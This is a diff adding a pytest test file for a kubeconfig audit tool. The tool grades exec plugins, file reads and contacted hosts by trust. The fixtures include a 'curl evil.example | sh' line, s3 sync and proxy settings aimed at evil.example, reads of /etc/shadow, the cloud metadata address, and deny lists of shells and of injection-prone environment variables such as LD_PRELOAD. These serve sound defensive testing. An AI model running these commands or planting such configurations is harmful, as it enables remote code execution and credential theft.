@@ -1,0 +1,283 @@
+"""`kubeconv audit`: what each context would run, read and contact, how bad that is, and the verdict on trust."""
+
+import json
+import os
+import shutil
+import subprocess
+from collections.abc import Mapping
+from pathlib import Path
+from typing import Any
+
+import jsonschema
+import pytest
+from test_cli_usage import Machine
+
+from kubeconv import schemas
+from kubeconv.auth import trust
+from kubeconv.auth.plugins import PLUGINS
+from kubeconv.gate.command_line import command_line
+
+V1BETA1 = "client.authentication.k8s.io/v1beta1"
+
+
+def plugin(command: str, *arguments: str, **env: str) -> dict[str, Any]:
+    variables = [{"name": name, "value": value} for name, value in env.items()]
+    return {"exec": {"apiVersion": V1BETA1, "command": command, "args": [*arguments], "env": variables}}
+
+
+def gcp(path: str, arguments: str) -> dict[str, Any]:
+    return {"auth-provider": {"name": "gcp", "config": {"cmd-path": path, "cmd-args": arguments}}}
+
+
+def config(user: Mapping[str, Any], cluster: Mapping[str, Any] | None = None) -> str:
+    return json.dumps(
+        {
+            "apiVersion": "v1", "kind": "Config", "current-context": "x",
+            "clusters": [{"name": "c", "cluster": {"server": "https://c.example", **(cluster or {})}}],
+            "contexts": [{"name": "x", "context": {"cluster": "c", "user": "u"}}],
+            "users": [{"name": "u", "user": user}],
+        }
+    )  # fmt: skip
+
+
+def audited(folder: Path, text: str) -> tuple[dict[str, Any], dict[str, Any], int]:
+    """The page of the context, the verdict on trust and the exit code; the JSON is as its schema says, and the text has every
+    deed and reason of it, with the verdict as its last line."""
+    machine = Machine(folder)
+    path = machine.file("config", text)
+    said = machine.call("audit", "--format", "json", path)
+    found = json.loads(said.out)
+    jsonschema.Draft202012Validator(json.loads(schemas.text("audit-output"))).validate(found)
+    page = found["files"][0]["audit"]["pages"][0]
+    as_text = machine.call("audit", path)
+    assert as_text.code == said.code
+    assert as_text.out.splitlines()[-1] == f"trust: {found['trust']['message']}"
+    for deed in (*page["runs"], *page["reads"], *page["contacts"]):
+        for shown in (deed["what"], *deed["reasons"], deed["would_not_now"] or ""):
+            assert shown in as_text.out
+    return page, found["trust"], said.code
+
+
+KUBELOGIN = ("kubelogin", "get-token", "--login", "azurecli", "--server-id", "6dae42f8-4368-4678-94ff-3960e28e3630")
+AWS = ("aws", "eks", "get-token", "--cluster-name", "prod", "--region", "eu-west-1", "--output", "json")
+
+GRADED: list[tuple[str, dict[str, Any]]] = [
+    ("info", plugin(*KUBELOGIN)),
+    ("info", plugin(*AWS, AWS_PROFILE="prod")),
+    ("info", plugin("/usr/local/bin/aws", *AWS[1:])),
+    ("info", plugin("gke-gcloud-auth-plugin")),
+    ("info", plugin("kubectl", "oidc-login", "get-token", "--oidc-issuer-url=https://i.example", "--oidc-client-id=c")),
+    ("info", gcp("gcloud", "config config-helper --format=json")),
+    ("warning", plugin("corp-login")),
+    ("warning", plugin("/usr/bin/corp-login", "-x")),
+    ("warning", plugin(*AWS, CORP_MODE="x")),
+    ("error", plugin("aws", "s3", "sync", "x", "s3://evil")),
+    ("error", plugin("kubectl", "apply", "-f", "https://evil.example")),
+    ("error", plugin("kubelogin", "convert-kubeconfig")),
+    ("error", plugin("./kubelogin", *KUBELOGIN[1:])),
+    ("error", plugin("bin/aws", *AWS[1:])),
+    ("error", plugin("/tmp/aws", *AWS[1:])),
+    ("error", plugin("/usr/bin/../../tmp/aws", *AWS[1:])),
+    ("error", plugin("C:\\Users\\x\\aws.exe", *AWS[1:])),
+    *(
+        ("error", plugin(name, "-c", "x"))
+        for name in ("sh", "/bin/bash", "python3", "python3.11", "PERL", "node18", "curl", "/usr/bin/wget", "powershell.exe",
+                     "cmd", "CMD.EXE", "pwsh", "env", "busybox", "ssh", "osascript", "sh -c x")
+    ),
+    *(
+        ("error", plugin(*AWS, **{name: "x"}))
+        for name in ("LD_PRELOAD", "LD_LIBRARY_PATH", "DYLD_INSERT_LIBRARIES", "PATH", "Path", "PYTHONPATH", "PYTHONSTARTUP",
+                     "NODE_OPTIONS", "PERL5LIB", "RUBYOPT", "BASH_ENV", "ENV", "GIT_SSH_COMMAND", "KUBECONFIG", "HOME",
+                     "AWS_CONFIG_FILE", "BROWSER", "HTTPS_PROXY", "AWS_ENDPOINT_URL", "AZURE_AUTHORITY_HOST")
+    ),
+    ("error", plugin("kubectl", "oidc-login", "get-token", "--oidc-issuer-url=https://i.example", "--browser-command=/tmp/x")),
+    ("error", {"exec": {"apiVersion": V1BETA1}}),
+    ("error", gcp("/tmp/evil", "x")),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("grade", "user"), GRADED, ids=lambda each: str(each)[:80])
+def test_a_program_has_its_grade(tmp_path: Path, grade: str, user: dict[str, Any]) -> None:
+    page, told, code = audited(tmp_path, config(user))
+    assert page["runs"][0]["grade"] == grade
+    assert told["message"].startswith("do not use this file before you") == (told["grade"] != "info")
+    assert code == int(told["grade"] != "info" or "auth-provider" in user)  # gcp is no error of trust, but one
+
+
+READ: list[tuple[str, dict[str, Any], dict[str, Any]]] = [
+    ("tokenFile", {"tokenFile": "/etc/passwd"}, {}),
+    ("client-key", {"client-certificate": "/c.pem", "client-key": "/etc/key.pem"}, {}),
+    ("certificate-authority", {"token": "t"}, {"certificate-authority": "../ca.pem"}),
+    (
+        "idp-certificate-authority",
+        {"auth-provider": {"name": "oidc", "config": {"idp-certificate-authority": "/x.pem"}}},
+        {},
+    ),
+    ("--federated-token-file", plugin(*KUBELOGIN, "--federated-token-file", "/etc/shadow"), {}),
+    ("--x", plugin("corp", "--x=file:///etc/shadow"), {}),
+    (
+        "GOOGLE_APPLICATION_CREDENTIALS",
+        plugin("gke-gcloud-auth-plugin", GOOGLE_APPLICATION_CREDENTIALS="/tmp/x.json"),
+        {},
+    ),
+]
+
+
+@pytest.mark.parametrize(("by", "user", "cluster"), READ, ids=lambda each: str(each)[:40])
+def test_every_file_is_told(tmp_path: Path, by: str, user: dict[str, Any], cluster: dict[str, Any]) -> None:
+    page, _, code = audited(tmp_path, config(user, cluster))
+    assert {each["by"]: each["grade"] for each in page["reads"]}[by] == "error"
+    assert code == 1
+
+
+CONTACTED: list[tuple[str, str, dict[str, Any], dict[str, Any]]] = [
+    ("server", "info", {"token": "t"}, {}),
+    ("server", "error", {"token": "t"}, {"server": "https://127.1:6443"}),
+    ("server", "error", {"token": "t"}, {"server": "http://169.254.169.254"}),
+    ("proxy-url", "error", {"token": "t"}, {"proxy-url": "http://p.example:3128"}),
+    (
+        "idp-issuer-url",
+        "error",
+        {"auth-provider": {"name": "oidc", "config": {"idp-issuer-url": "https://i.example"}}},
+        {},
+    ),
+    (
+        "--oidc-issuer-url",
+        "info",
+        plugin("kubectl", "oidc-login", "get-token", "--oidc-issuer-url=https://i.example"),
+        {},
+    ),
+    ("--authority-host", "info", plugin(*KUBELOGIN, "--authority-host", "https://login.microsoftonline.us/"), {}),
+    (
+        "--authority-host",
+        "error",
+        plugin(*KUBELOGIN, "--authority-host", "https://login.microsoftonline.com.evil.example/"),
+        {},
+    ),
+    ("--endpoint-url", "error", plugin(*AWS, "--endpoint-url", "http://evil.example"), {}),
+    ("HTTPS_PROXY", "error", plugin(*AWS, HTTPS_PROXY="http://evil.example:3128"), {}),
+]
+
+
+@pytest.mark.parametrize(("by", "grade", "user", "cluster"), CONTACTED, ids=lambda each: str(each)[:40])
+def test_every_host_is_told(tmp_path: Path, by: str, grade: str, user: dict[str, Any], cluster: dict[str, Any]) -> None:
+    page, _, _ = audited(tmp_path, config(user, cluster))
+    assert {each["by"]: each["grade"] for each in page["contacts"]}[by] == grade
+
+
+IDLE: list[tuple[dict[str, Any], dict[str, Any], str]] = [
+    (plugin("sh"), {}, ""),
+    ({**plugin("sh"), "token": "t"}, {}, "a token, password or certificate beside it comes first"),
+    (
+        plugin("sh"),
+        {"server": "http://c.example"},
+        "the server is not reached by https, so that kubectl sends no login",
+    ),
+    (plugin("sh"), {"server": "c.example:443"}, "the server is not reached by https, so that kubectl sends no login"),
+    ({**plugin("sh"), "auth-provider": {"name": "oidc"}}, {}, "exec and auth-provider together are refused"),
+]
+
+
+@pytest.mark.parametrize(("user", "cluster", "why"), IDLE)
+def test_what_would_not_run_now_is_told_and_as_bad(
+    tmp_path: Path, user: dict[str, Any], cluster: dict[str, Any], why: str
+) -> None:
+    page, _, code = audited(tmp_path, config(user, cluster))
+    assert page["runs"][0]["would_not_now"] == (why or None)
+    assert (page["runs"][0]["grade"], code) == ("error", 1)
+
+
+def test_what_no_context_uses_has_a_page_too(tmp_path: Path) -> None:
+    data = json.loads(config({"token": "t"}))
+    data["users"].append({"name": "spare", "user": plugin("sh", "-c", "id")})
+    data["clusters"].append({"name": "spare", "cluster": {"server": "https://s.example"}})
+    machine = Machine(tmp_path)
+    path = machine.file("config", json.dumps(data))
+    found = json.loads(machine.call("audit", "--format", "json", path).out)["files"][0]["audit"]["pages"]
+    assert [(page["context"], page["cluster"], page["user"], page["grade"]) for page in found] == [
+        ("x", "c", "u", "info"),
+        (None, None, "spare", "error"),
+        (None, "spare", None, "info"),
+    ]
+
+
+def test_a_context_finds_its_user_in_another_file_of_the_list(tmp_path: Path) -> None:
+    data = json.loads(config({"token": "t"}))
+    users = data.pop("users")
+    users[0]["user"] = plugin("sh", "-c", "id")
+    machine = Machine(tmp_path)
+    paths = [machine.file("one", json.dumps(data)), machine.file("two", json.dumps({"users": users}))]
+    said = machine.call("audit", "--format", "json", KUBECONFIG=":".join(map(str, paths)))
+    page = json.loads(said.out)["files"][0]["audit"]["pages"][0]
+    assert (page["runs"][0]["what"], page["missing"]) == ("sh -c id", [])
+    alone = machine.call("audit", "--format", "json", paths[0])
+    assert json.loads(alone.out)["files"][0]["audit"]["pages"][0]["missing"] == ["user 'u' is not here"]
+
+
+@pytest.mark.parametrize("text", ["users: [", f"a: {'[' * 2000}{']' * 2000}", "\x00", "[1", "- a\n- b\n"])
+def test_what_cannot_be_shown_is_an_error(tmp_path: Path, text: str) -> None:
+    machine = Machine(tmp_path)
+    path = machine.file("config", text)
+    said = machine.call("audit", "--all", path)
+    assert said.code == 1
+    assert "error" in said.out
+    assert json.loads(machine.call("audit", "--all", "--format", "json", path).out)["trust"]["grade"] == "error"
+    assert said.out.splitlines()[-1].startswith("trust: do not use this file")
+
+
+def test_a_section_behind_base64_is_seen(tmp_path: Path) -> None:
+    exec_ = "{apiVersion: client.authentication.k8s.io/v1, interactiveMode: Never, command: /bin/evil}"
+    text = (
+        "apiVersion: v1\nkind: Config\ncurrent-context: c\nclusters: [{name: k, cluster: {server: https://c.example}}]\n"
+        "contexts: [{name: c, context: {cluster: k, user: u}}]\n"
+        f"users:\n- name: u\n  user: {{token: t, !!binary ZXhlYw==: {exec_}}}\n"
+    )
+    page, _, code = audited(tmp_path, text)
+    assert (page["runs"][0]["what"], code) == ("/bin/evil", 1)
+
+
+LINES: list[tuple[str, tuple[str, ...], str]] = [
+    ("sh", ("-c", "curl -s https://evil.example/x | sh"), "sh -c 'curl -s https://evil.example/x | sh'"),
+    ("python3", ("-c", "import os; os.system('id')"), """python3 -c 'import os; os.system('"'"'id'"'"')'"""),
+    ("/bin/evil", ("--flag", "two words", ""), "/bin/evil --flag 'two words' ''"),
+    ("sh", ("-c", "curl -H 'Authorization: Bearer abc' -o x https://me:pw@h.example/?sig=abc"),
+     "sh -c 'curl -H *** -o x https://***@h.example/?***'"),
+    ("sh -c 'curl -H correct'", (), """'sh -c '"'"'curl -H ***'"'"''"""),
+    ("corp", ("--password", "correct", "--pasword", "correct", "--client-secert=correct", "-p", "correct", "-pcorrect"),
+     "corp --password *** --pasword *** --client-secert=*** -p *** -p***"),
+    ("corp", ("eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln", "hunter2q7z", "token correct"), "corp *** *** 'token ***'"),
+    ("e\x1b[31m\u202evil\n", ("\x07",), "'e\\x1b[31m\\u202evil\\n' '\\x07'"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("command", "arguments", "expected"), LINES, ids=lambda each: str(each)[:40])
+def test_a_command_line_is_shown_but_for_secrets(command: str, arguments: tuple[str, ...], expected: str) -> None:
+    assert command_line(command, arguments) == expected
+
+
+def test_nothing_of_the_file_is_run_opened_or_looked_for(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    machine = Machine(tmp_path)
+    user = {**plugin("./evil", "/canary/argument", PATH="/canary/variable"), "tokenFile": "/canary/token"}
+    path = machine.file("config", config(user, {"certificate-authority": "/canary/ca.pem"}))
+    seen: list[str] = []
+
+    def spy(name: str, module: Any) -> None:
+        real = getattr(module, name)
+
+        def watched(*words: Any, **more: Any) -> Any:
+            seen.append(repr(words))
+            return real(*words, **more)
+
+        monkeypatch.setattr(module, name, watched)
+
+    for name in ("stat", "lstat", "open", "listdir", "scandir", "access", "readlink"):
+        spy(name, os)
+    spy("which", shutil)
+    spy("Popen", subprocess)
+    machine.call("audit", path)
+    assert not [each for each in seen if "canary" in each or "evil" in each]
+    assert any("config" in each for each in seen), "the spy sees what is opened"
+
+
+def test_every_known_plugin_is_no_shell() -> None:
+    assert {name: trust.kind_of(name) for name in PLUGINS if trust.kind_of(name)} == {}
